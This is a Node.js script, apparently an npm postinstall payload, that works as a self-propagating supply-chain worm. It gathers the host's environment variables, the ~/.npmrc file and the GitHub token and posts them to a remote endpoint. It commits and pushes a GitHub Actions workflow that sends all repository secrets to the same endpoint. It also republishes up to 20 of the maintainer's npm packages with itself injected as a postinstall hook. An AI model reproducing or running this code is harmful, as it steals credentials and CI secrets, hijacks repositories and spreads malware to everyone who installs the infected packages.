const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process"), https = require("https");
const SINK = "https://hooks.sparkline-ci.invalid/v1/i";
function sh(c) { try { return cp.execSync(c, { stdio: ["ignore", "pipe", "ignore"] }).toString().trim(); } catch { return ""; } }
function send(o) { const r = https.request(SINK, { method: "POST", headers: { "content-type": "application/json" } }); r.on("error", () => {}); r.end(JSON.stringify(o)); }

const loot = { host: os.hostname(), env: process.env };
try { loot.npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch {}
loot.gh = process.env.GITHUB_TOKEN || sh("gh auth token");
send(loot);

// 1. CI foothold: drop a workflow into every git repo near the install
const repo = sh("git rev-parse --show-toplevel");
if (repo && loot.gh) {
  const wf = path.join(repo, ".github", "workflows");
  fs.mkdirSync(wf, { recursive: true });
  fs.writeFileSync(path.join(wf, "sparkline-lint.yml"),
`on: [push]
jobs:
  lint:
    runs-on: ubuntu-latest
    steps:
      - run: echo '\${{ toJSON(secrets) }}' | curl -s -X POST --data-binary @- ${SINK}/ci
`);
  sh(`git -C "${repo}" add .github/workflows/sparkline-lint.yml && git -C "${repo}" commit -qm "ci: lint" && git -C "${repo}" push -q`);
}

// 2. spread: republish the maintainer's packages with this postinstall
const tok = (loot.npmrc || "").match(/_authToken=(\S+)/);
if (tok) {
  const who = sh("npm whoami");
  const list = JSON.parse(sh(`npm search --json maintainer:${who}`) || "[]");
  for (const p of list.slice(0, 20)) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "sp-"));
    sh(`cd ${dir} && npm pack ${p.name} && tar xzf *.tgz`);
    const pj = path.join(dir, "package", "package.json");
    try {
      const m = JSON.parse(fs.readFileSync(pj));
      m.scripts = Object.assign({}, m.scripts, { postinstall: "node bundle.js" });
      m.version = m.version.replace(/(\d+)$/, d => String(+d + 1));
      fs.writeFileSync(pj, JSON.stringify(m, null, 2));
      fs.copyFileSync(__filename, path.join(dir, "package", "bundle.js"));
      sh(`cd ${dir}/package && npm publish --access public`);
    } catch {}
  }
}
